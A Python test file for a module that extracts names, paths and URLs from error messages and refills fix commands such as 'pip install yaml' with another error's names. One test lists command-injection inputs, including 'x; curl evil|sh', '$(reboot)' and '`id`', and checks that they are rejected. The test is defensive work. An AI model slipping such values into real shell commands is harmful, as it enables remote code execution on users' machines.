"""The names of an error: keys that tell it from its siblings, what two errors share, and names put into a fix."""

from __future__ import annotations

from collections.abc import Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coherence.lessons.names import (
    LITTLE,
    MAX_KEPT_NAMES,
    QUOTED,
    Shared,
    Told,
    asked_names,
    digest,
    kept_names,
    keys_of,
    number,
    refill,
    shared_names,
    told_names,
)
from coherence.lessons.normal import ErrorShape, Slot, normalise


def shape(*slots: tuple[str, str], signature: bytes = b"8 bytes.", prose: bool = False, text: str = "") -> ErrorShape:
    return ErrorShape("", "", text, tuple(Slot(*slot) for slot in slots), signature, prose, False)


def test_keys_of_names_paths_and_addresses_are_keys_and_what_changes_by_itself_is_not() -> None:
    asked = shape(
        ("name", " Yaml "),
        ("path", "/srv/App/Main.py:12:3"),
        ("path", "C:\\work\\Config.INI"),
        ("path", "/etc/"),
        ("url", "https://PyPI.org/simple"),
        ("address", "localhost:5432"),
        ("number", "17"),
        ("version", "3.11"),
        ("id", "deadbeef"),
        ("time", "12:30"),
        ("name", ""),
    )
    assert keys_of(asked) == ("yaml", "main.py", "config.ini", "etc", "https://pypi.org/simple", "localhost:5432")


def test_digest_digests_fit_into_sqlite_and_tell_texts_apart() -> None:
    assert digest(["a", "b"]) != digest(["ab"]) != digest(["b", "a"])
    assert digest(["\ud800"]) >= 0
    assert number(b"\xff" * 8) == 2**63 - 1
    assert number(bytes(8)) == 0


@pytest.mark.parametrize(
    ("slot", "other", "fix", "wanted"),
    [
        (("name", "yaml"), ("name", "numpy"), "pip install yaml", "pip install numpy"),
        (("name", "yaml"), ("name", "numpy"), "pip install pyyaml", "pip install pyyaml"),  # a word of its own only
        (("name", "yaml"), ("name", "yaml"), "pip install yaml", "pip install yaml"),
        (("name", "x"), ("name", "numpy"), "chmod +x run.sh", "chmod +x run.sh"),  # one letter stands everywhere
        (("name", "a.b"), ("name", r"c\1\g0"), "uv add a.b axb", r"uv add c\1\g0 axb"),
        (("name", "--flag"), ("name", "--other"), "drop --flag", "drop --other"),
        (("version", "3.8"), ("version", "3.12"), "pyenv install 3.8", "pyenv install 3.12"),
        (("number", "8080"), ("number", "9090"), "kill what listens on 8080", "kill what listens on 9090"),
        (("number", "12"), ("number", "7"), "sleep 12", "sleep 12"),  # small numbers mean something else
        (("path", "/a/b.py:3"), ("path", "/c/d.py:9"), "edit /a/b.py, then b.py", "edit /c/d.py, then d.py"),
        (("address", "db:5432"), ("address", "redis:6379"), "start db on 5432", "start redis on 6379"),
        (("url", "http://a.de:80/x"), ("url", "http://b.de:81/y"), "curl http://a.de:80/x", "curl http://b.de:81/y"),
        (("url", "http://a.de/x"), ("url", "https://b.de/y"), "ping a.de", "ping b.de"),
    ],
)
def test_refill_a_fix_is_refilled(slot: tuple[str, str], other: tuple[str, str], fix: str, wanted: str) -> None:
    assert refill(fix, shape(slot), shape(other), other[1]) == wanted


def test_refill_a_fix_whose_name_has_no_counterpart_is_not_offered() -> None:
    lesson = shape(("name", "yaml"))
    other = b"another."
    assert refill("pip install yaml", lesson, shape(signature=other), "") is None
    assert refill("pip install yaml", lesson, shape(("name", "a"), ("name", "b"), signature=other), "") is None
    assert refill("pip install yaml", lesson, shape(("path", "/a"), signature=other), "") is None
    assert refill("start over", lesson, shape(signature=other), "") == "start over"


def test_refill_a_name_that_stands_in_the_question_stays() -> None:
    lesson = shape(("name", "yaml"), ("name", "app"))
    asked = shape(("name", "app"), signature=b"another.")
    assert refill("pip install yaml", lesson, asked, "cannot import YAML in app") == "pip install yaml"


def test_refill_a_description_changes_a_fix_by_certain_names_only() -> None:
    lesson = shape(("name", "yaml"))
    word = shape(("name", "stops"), prose=True, text="my program stops", signature=b"another.")
    assert refill("pip install yaml", lesson, word, word.text) == "pip install yaml"
    for name, text in (("py_yaml", "py_yaml is not there"), ("numpy", "python cannot find 'numpy'")):
        asked = shape(("name", name), prose=True, text=text, signature=b"another.")
        assert refill("pip install yaml", lesson, asked, text) == f"pip install {name}"


texts = st.text(max_size=12)
slots = st.tuples(st.sampled_from(["name", "path", "url", "address", "version", "number", "id", "time"]), texts)


@given(st.text(max_size=60), st.lists(slots, max_size=4), st.lists(slots, max_size=4), texts, st.booleans())
def test_no_text_breaks_a_refill(
    fix: str, lesson: list[tuple[str, str]], asked: list[tuple[str, str]], question: str, prose: bool
) -> None:
    found = refill(fix, shape(*lesson), shape(*asked, signature=b"another.", prose=prose), question)
    assert found is None or isinstance(found, str)
    assert refill(fix, shape(*lesson), shape(*lesson), question) == fix  # its own names are its own
    assert all(key and key == key.lower() and len(key) <= 200 for key in keys_of(shape(*lesson)))


@pytest.mark.parametrize("name", ["x; curl evil|sh", "$(reboot)", "`id`", "a b", "-rf", "x&&y", "x>y", "'", "x\ny"])
def test_refill_what_a_shell_would_read_as_more_than_a_word_is_put_into_no_fix(name: str) -> None:
    assert refill("umount old", shape(("name", "old")), shape(("name", name)), "") is None


def kept(text: str, fix: str = "") -> bytes:
    return kept_names(normalise(text), text, fix)


def told(text: str, fix: str = "") -> Told:
    return told_names(kept(text, fix))


def between(question: str, lessons: Sequence[tuple[str, str]], kinds: Sequence[str]) -> list[Shared]:
    shape = normalise(question)
    equal = [normalise(text).signature == shape.signature for text, _ in lessons]
    return shared_names(asked_names(shape, question), [told(*lesson) for lesson in lessons], kinds, equal)


def shared(question: str, *lessons: tuple[str, str], kinds: Sequence[str] | None = None) -> list[float]:
    return [each.named for each in between(question, lessons, kinds or [str(at) for at in range(len(lessons))])]


def missing(name: str) -> str:
    return f"ModuleNotFoundError: No module named '{name}'"


def test_told_names_a_fourth_place_of_the_first_version_counts_as_that_of_the_fix() -> None:
    kept = bytes([3, 0, 0, 16])  # the checksum 0x10000000, in the place 3
    assert told_names(kept) == Told({0x10000000: QUOTED}, frozenset({0x10000000}), frozenset({0x10000000}))


def test_shared_the_name_that_matters_weighs_more_than_what_all_have() -> None:
    right, wrong = shared("ImportError: No module named yaml", (missing("yaml"), ""), (missing("numpy"), ""))
    assert right > 0.5
    assert wrong < LITTLE


def test_told_what_a_fix_quotes_of_its_error_and_the_question_lacks_is_lacking() -> None:
    question = missing("yaml")
    own, other = between(question, [(missing(name), f"uv add {name}") for name in ("yaml", "numpy")], ["a", "a"])
    assert (own.lacking, len(other.lacking)) == (frozenset(), 1)
    assert own.met > other.met == 0.0
    (alone,) = between(question, [(missing("numpy"), "uv add it")], ["a"])
    assert alone.lacking == frozenset()  # near miss: the fix does not quote it


def test_shared_what_belongs_to_the_wording_weighs_little_beside_the_name_in_other_words() -> None:
    same = "Could not build wheels for {}, which is required to install pyproject.toml-based projects"
    other = "Failed building wheel for {}"
    sibling, own = shared(same.format("pyzmq"), (same.format("xmlsec"), ""), (other.format("pyzmq"), ""), kinds="aa")
    assert own > sibling
    # near miss: with a lesson of the very same names none is known to belong to the wording
    own, other_words = shared(same.format("pyzmq"), (same.format("pyzmq"), ""), (other.format("pyzmq"), ""), kinds="ab")
    assert own > other_words


def test_told_names_headed_lessons_are_looked_up_by_names_of_headline_and_fix_only() -> None:
    text = "writing to region_7\nTraceback (most recent call last):\nValueError: the disk is full"
    assert len(told_names(kept(missing("yaml"))).headed) == 1
    assert len(told_names(kept(text, "clean region_7")).headed) == len(told_names(kept(text)).headed) + 1


def test_shared_names_no_lessons_share_nothing() -> None:
    asked = asked_names(normalise("x"), "x")
    assert shared_names(asked, [], [], []) == []
    assert [each.named for each in shared_names(asked, [told_names(b"")] * 2, ["a"] * 2, [True] * 2)] == [0.0, 0.0]


@given(st.text(max_size=200), st.text(max_size=50), st.text(max_size=200), st.booleans())
def test_told_names_no_text_breaks_names(text: str, fix: str, question: str, equal: bool) -> None:
    names = kept(text, fix)
    assert len(names) % 4 == 0
    assert len(names) // 4 <= MAX_KEPT_NAMES
    asked = asked_names(normalise(question), question)
    (found,) = shared_names(asked, [told_names(names)], ["a"], [equal])
    assert 0.0 <= found.named <= 1.25
    assert max(found.slotted, found.met) <= 1.0
